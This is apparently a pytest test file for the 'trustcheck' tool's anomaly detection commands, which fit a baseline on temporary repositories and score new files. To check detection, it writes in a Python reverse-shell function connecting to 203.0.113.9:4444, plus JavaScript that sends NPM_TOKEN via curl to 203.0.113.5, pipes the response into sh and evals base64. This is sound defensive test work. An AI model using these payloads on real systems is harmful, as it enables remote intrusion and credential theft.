"""`trustcheck anomaly fit|score` end to end on a temporary repository."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from trustcheck.cli import main

LABEL = '''

def label_{i}(item, prefix="x"):
    return prefix + "-" + str(item)
'''
BACKDOOR = '''
import os, socket, subprocess


def reconnect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.9", 4444))
    os.dup2(s.fileno(), 0)
    subprocess.call(["/bin/sh", "-i"])
'''


@pytest.fixture
def helper(total_function: Callable[..., str]) -> Callable[[int], str]:
    """`helper(i)`: a small clean module (total_{i} and label_{i})."""
    return lambda i: total_function(i) + LABEL.format(i=i)


@pytest.fixture
def repo(tmp_path: Path, helper: Callable[[int], str]) -> Path:
    (tmp_path / ".git").mkdir()
    for i in range(10):
        (tmp_path / f"m{i}.py").write_text(helper(i))
    return tmp_path


def test_fit_then_score_json(repo: Path, helper: Callable[[int], str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(repo)
    assert main(["anomaly", "fit", ".", "--model", "isolation-forest"]) == 0
    assert (repo / ".trustcheck" / "anomaly" / "baseline.json").is_file()
    (repo / "new.py").write_text(helper(50) + BACKDOOR)
    capsys.readouterr()
    code = main(["anomaly", "score", "new.py", "--format", "json"])
    findings = json.loads(capsys.readouterr().out)["findings"]
    assert [f["evidence"]["unit"] for f in findings if f["rule_id"] == "anomaly-unusual-function"] == ["reconnect"]
    assert code in (0, 1)  # 1 only when a finding reaches --fail-on (high)


def test_score_text_and_custom_out(repo: Path, helper: Callable[[int], str], tmp_path_factory: pytest.TempPathFactory,
                                   capsys: pytest.CaptureFixture[str]):
    out = tmp_path_factory.mktemp("baseline")
    assert main(["anomaly", "fit", str(repo), "--model", "lof", "--out", str(out)]) == 0
    (repo / "new.py").write_text(helper(50) + BACKDOOR)
    capsys.readouterr()
    main(["anomaly", "score", str(repo / "new.py"), "--baseline", str(out), "--fail-on", "critical"])
    text = capsys.readouterr().out
    assert "anomaly-unusual-function" in text and "reconnect" in text


def test_clear_errors(repo: Path, tmp_path_factory: pytest.TempPathFactory, capsys: pytest.CaptureFixture[str]):
    empty = tmp_path_factory.mktemp("empty")
    assert main(["anomaly", "fit", str(empty)]) == 2
    assert "needs at least 10" in capsys.readouterr().err
    assert main(["anomaly", "score", str(repo / "m1.py"), "--baseline", str(empty)]) == 2
    assert "no anomaly baseline" in capsys.readouterr().err
    out = tmp_path_factory.mktemp("bl")
    assert main(["anomaly", "fit", str(repo), "--out", str(out)]) == 0
    state = json.loads((out / "baseline.json").read_text())
    (out / "baseline.json").write_text(json.dumps({**state, "schema_version": 0}))
    assert main(["anomaly", "score", str(repo / "m1.py"), "--baseline", str(out)]) == 2
    assert "feature schema 0" in capsys.readouterr().err
    (out / "baseline.json").write_text(json.dumps(state))
    (repo / "notes.py").write_text("# nothing here\n")
    assert main(["anomaly", "score", str(repo / "notes.py"), "--baseline", str(out)]) == 2
    assert "no python functions" in capsys.readouterr().err
    assert main(["anomaly", "fit", str(repo), "--model", "nope"]) == 2


def test_stale_baseline_warns(repo: Path, helper: Callable[[int], str], capsys: pytest.CaptureFixture[str]):
    assert main(["anomaly", "fit", str(repo / "m0.py").replace("m0.py", "")]) == 0
    (repo / "m3.py").write_text(helper(33))
    capsys.readouterr()
    main(["anomaly", "score", str(repo / "m1.py")])
    assert "stale" in capsys.readouterr().err


def test_fit_and_score_javascript(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
    for i in range(8):
        (tmp_path / f"m{i}.js").write_text(
            f"function total{i}(items) {{\n  let r = 0;\n  for (const it of items) {{ if (it.size > {i}) r += it.size; }}\n"
            f"  return r;\n}}\nconst label{i} = (x) => 'x-' + String(x);\nmodule.exports = {{ total{i}, label{i} }};\n")
    assert main(["anomaly", "fit", str(tmp_path), "--language", "javascript"]) == 0
    (tmp_path / "new.js").write_text(
        'const cp = require("child_process");\n'
        "function update() {\n  const t = process.env.NPM_TOKEN;\n"
        '  cp.exec("curl http://203.0.113.5/x?t=" + t + " | sh");\n  eval(atob("YWxlcnQoMSk="));\n}\n')
    capsys.readouterr()
    main(["anomaly", "score", str(tmp_path / "new.js"), "--format", "json"])
    findings = json.loads(capsys.readouterr().out)["findings"]
    assert "update" in [f["evidence"]["unit"] for f in findings]
